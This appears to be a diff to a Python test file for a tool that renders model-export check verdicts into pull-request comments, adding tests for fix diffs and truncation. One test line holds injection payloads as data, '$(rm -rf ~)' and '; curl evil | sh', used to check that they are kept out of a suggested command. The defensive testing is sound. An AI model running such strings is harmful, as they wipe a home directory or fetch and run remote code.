@@ -31,6 +31,8 @@ from transformers_export.verdict.types import (
     CaseResult,
     CheckResult,
     Finding,
+    Fix,
+    FixedFile,
     NotChecked,
     Tool,
     Verdict,
@@ -175,6 +177,9 @@ def test_the_local_command_takes_nothing_unread_from_the_verdict() -> None:
     assert f"transformers-export check --base {'a' * 40} --exporter both\n" in comment(
         verdict(PASSED, legacy, base="a" * 40), LINKS
     )
+    assert "transformers-export check --all --exporter" in comment(
+        verdict(PASSED, base="a" * 40, head="a" * 40), LINKS
+    ), "nothing was compared"
     hostile = verdict(replace(PASSED, exporter="$(rm -rf ~)"), base="; curl evil | sh")
     assert "\ntransformers-export check\n" in comment(hostile, LINKS)
 
@@ -189,6 +194,7 @@ def huge(rows: int, text: str) -> Verdict:
         affected=tuple(Affected(f"{text}{n}", text, text) for n in range(rows)),
         versions={f"{text}{n}": text for n in range(rows)},
         isolation=text,
+        fix=Fix(tuple(FixedFile(text, text * 9) for _ in range(rows)), (text,) * rows, (text,) * rows),
         base="a" * 40,
         head="b" * 40,
     )
@@ -222,18 +228,44 @@ def test_what_is_left_out_is_counted_and_the_summary_has_it() -> None:
 
     shown = text.count("| ❌ |")
     assert 0 < shown < 1500
-    assert f"… and {1500 - shown:,} more exports, all in the [job summary]({LINKS.run_url})." in text
+    assert f"… and {1500 - shown:,} more exports: see the [job summary]({LINKS.run_url})." in text
 
 
 def test_details_go_before_rows() -> None:
     text = comment(huge(60, "word " * 60), LINKS)
 
     assert text.count("| ❌ |") == 60
-    assert "more frames" in text or "more failures" in text
+    assert "\n60 failures: see the [job summary]" in text
 
 
 def test_a_length_is_counted_as_the_strictest_reader_would() -> None:
     assert comment_length("🤗\n") == 4
+
+
+def fix_of(lines: int, files: int = 1) -> Fix:
+    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n" + "+line ```\n" * lines
+    return Fix(tuple(FixedFile(f"x{n}", diff) for n in range(files)), ("Register X.",), ("Look at it.",))
+
+
+def test_what_can_be_mended_is_shown_as_a_diff_to_apply() -> None:
+    text = comment(verdict(findings=(NEW,), fix=fix_of(3), base="a" * 40), LINKS)
+
+    assert "#### Fix\n\n- Register X.\n\n⚠️ Look at it.\n\n````diff\n--- a/x\n" in text
+    assert f"`transformers-export check --static --fix --base {'a' * 40}`" in text
+    assert "<summary>The diff" not in text
+    assert "<summary>The diff</summary>" in comment(verdict(findings=(NEW,), fix=fix_of(200)), LINKS)
+    assert "#### Fix" not in comment(verdict(findings=(NEW,)), LINKS)
+
+
+def test_a_diff_is_shown_whole_or_not_at_all() -> None:
+    some = comment(verdict(findings=(NEW,), fix=fix_of(700, files=5)), LINKS)
+    none = comment(verdict(findings=(NEW,), fix=fix_of(10_000)), LINKS)
+
+    assert some.count("--- a/x") == 2
+    assert "also changes 3 files more" in some
+    assert "--- a/x" not in none
+    assert "The diff is too long to be shown here. Run `transformers-export check" in none
+    assert "--- a/x" in summary(verdict(findings=(NEW,), fix=fix_of(10_000)), LINKS)
 
 
 def test_an_unfinished_check_replaces_the_report_and_is_red() -> None:
